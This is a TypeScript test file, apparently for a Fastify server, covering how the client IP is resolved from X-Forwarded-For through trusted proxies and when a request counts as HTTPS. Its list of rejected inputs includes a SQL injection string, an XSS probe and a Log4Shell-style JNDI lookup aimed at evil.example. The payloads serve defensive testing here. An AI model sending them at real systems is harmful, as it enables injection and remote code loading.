import type { FastifyInstance } from 'fastify';
import { ELSEWHERE, SPOOFS } from '../../../test/support/spoofs';
import { clientOf } from './client';
import { createFastify } from './fastify';
import { TrustedProxies } from './proxies';
import { configureServer } from './server-options';
import { cameByHttps } from './transport';

const PROXY = '127.0.0.1';
const ALL = Object.fromEntries(SPOOFS);

interface Seen {
  readonly address: string | null;
  readonly https: boolean;
}

let fastify: FastifyInstance;

beforeAll(async () => {
  fastify = createFastify().getInstance();
  const proxies = new TrustedProxies();
  for (const address of [PROXY, '10.0.0.0/8', '2001:db8:1::/48']) proxies.add(address);
  configureServer(fastify, { trustedProxies: proxies });
  fastify.get('/', (request, reply) =>
    reply.send({ address: clientOf(request).ipAddress, https: cameByHttps(request) }),
  );
  await fastify.ready();
});

afterAll(async () => fastify.close());

async function seenOf(headers: Record<string, string | string[]>, remoteAddress = PROXY): Promise<Seen> {
  return (await fastify.inject({ url: '/', headers, remoteAddress })).json<Seen>();
}

/** @param forwarded lines of X-Forwarded-For */
const addressOf = async (forwarded: string[], others: Record<string, string> = {}) =>
  (await seenOf({ ...others, 'x-forwarded-for': forwarded })).address;

describe('the address of the client', () => {
  it.each([
    ['the client', ['203.0.113.7'], '203.0.113.7'],
    ['what a client made up before it', ['198.51.100.1, 203.0.113.7'], '203.0.113.7'],
    ['much of that', [`${'10.0.0.1,'.repeat(500)}203.0.113.7`], '203.0.113.7'],
    ['two proxies', ['203.0.113.7, 10.0.0.5'], '203.0.113.7'],
    ['two proxies and a made up client', ['198.51.100.1, 203.0.113.7, 10.0.0.5'], '203.0.113.7'],
    ['two proxies and a made up proxy', ['198.51.100.1, 10.9.9.9, 203.0.113.7, 10.0.0.5'], '203.0.113.7'],
    ['three proxies', ['203.0.113.7,10.0.0.5,10.0.0.6'], '203.0.113.7'],
    ['proxies of both families', ['203.0.113.7, 2001:db8:1::5, ::ffff:10.0.0.5'], '203.0.113.7'],
    ['a proxy that is not trusted', ['203.0.113.7, 192.0.2.9, 10.0.0.5'], '192.0.2.9'],
    ['a client among the proxies', ['10.0.0.9'], '10.0.0.9'],
    ['a line for each proxy', ['198.51.100.1', '203.0.113.7', '10.0.0.5'], '203.0.113.7'],
    ['an address with a port', ['203.0.113.7:4711'], '203.0.113.7'],
    ['IPv6', ['198.51.100.1, 2001:db8::7'], '2001:db8::7'],
    ['IPv6 in brackets', ['[2001:db8::7]'], '2001:db8::7'],
    ['IPv6 with a port', ['[2001:db8::7]:4711'], '2001:db8::7'],
    ['IPv6 with a zone', ['fe80::7%eth0'], 'fe80::7'],
    ['a proxy with a port', ['203.0.113.7, 10.0.0.5:55'], '203.0.113.7'],
    ['two proxies with ports', ['203.0.113.7:1, 10.0.0.5:55, [2001:db8:1::5]:55'], '203.0.113.7'],
    ['a proxy in brackets', ['203.0.113.7, [::ffff:10.0.0.5]:55, [2001:db8:1::5]'], '203.0.113.7'],
    ['a proxy that is not trusted, with a port', ['203.0.113.7, 192.0.2.9:55, 10.0.0.5:55'], '192.0.2.9'],
    ['IPv4 in IPv6', ['::ffff:203.0.113.7'], '203.0.113.7'],
    ['nothing', [''], '127.0.0.1'],
    ['commas', [' , ,, '], '127.0.0.1'],
    ['empty places', [',203.0.113.7,,10.0.0.5,'], '203.0.113.7'],
  ])('is found in %s', async (_, forwarded, address) => {
    expect(await addressOf(forwarded)).toBe(address);
  });

  it.each([
    'unknown',
    '_hidden',
    'garbage',
    '203.0.113.7, garbage',
    '203.0.113.7, garbage, 10.0.0.5',
    '203.0.113.7 10.0.0.5',
    '203.0.113.7;10.0.0.5',
    'for=203.0.113.7',
    '"203.0.113.7"',
    '999.1.1.1',
    '127.1',
    '0x7f.0.0.1',
    '010.0.0.1',
    '2130706433',
    '203.0.113.7/32',
    '203.0.113.7:',
    '203.0.113.7:80:80',
    '[2001:db8::7',
    '2001:db8::7::1',
    '[<b>]',
    "'; DROP TABLE sessions; --",
    '<script>alert(1)</script>',
    '${jndi:ldap://evil.example/a}',
    '\xff\xfe',
    'a'.repeat(8_000),
    `fe80::1%${'<'.repeat(50)}`,
  ])('is none where there should be one stands %j', async (text) => {
    expect(await addressOf([text])).toBeNull();
  });

  it.each(SPOOFS)('is not changed by %s', async (name, value) => {
    expect(await addressOf(['203.0.113.7'], { [name]: value })).toBe('203.0.113.7');
    expect((await seenOf({ [name]: value }, '203.0.113.9')).address).toBe('203.0.113.9');
  });

  it('is not what another peer than a proxy says', async () => {
    const headers = { ...ALL, 'x-forwarded-for': ELSEWHERE };
    expect((await seenOf(headers, '203.0.113.9')).address).toBe('203.0.113.9');
  });
});

describe('a request over https', () => {
  const HTTPS = [
    ['https'],
    ['HTTPS'],
    ['Https'],
    ['http,https'],
    ['http, https '],
    ['http', 'https'],
    [',https'],
  ];
  const OTHERS = [
    ...'http|https,http|HTTPS , HTTP|https,|https, ,|https://|httpss|xhttps|"https"'.split('|'),
    ...'https;http|https http|https:|wss|ssl|on|true|1|443|h2|null'.split('|'),
    '',
    ' ',
    'a'.repeat(9_000),
  ];

  it.each(HTTPS)('is one of which a trusted proxy says %j', async (...values) => {
    for (const peer of [PROXY, '10.9.9.9', '::ffff:10.9.9.9', '2001:db8:1::9'])
      expect((await seenOf({ 'x-forwarded-proto': values }, peer)).https).toBe(true);
  });

  it.each(HTTPS)('is none of which any other peer says %j', async (...values) => {
    const peers = ['127.0.0.2', '203.0.113.9', '::ffff:203.0.113.9', '::10.9.9.9', '2001:db8:2::9', '::1'];
    for (const peer of peers) expect((await seenOf({ 'x-forwarded-proto': values }, peer)).https).toBe(false);
  });

  it.each([...OTHERS.map((value) => [value]), ['https', 'http']])(
    'is none of which a proxy says %j',
    async (...values) => {
      expect((await seenOf({ 'x-forwarded-proto': values })).https).toBe(false);
    },
  );

  it.each(SPOOFS)('is not made by %s', async (name, value) => {
    expect((await seenOf({ [name]: value })).https).toBe(false);
  });
});
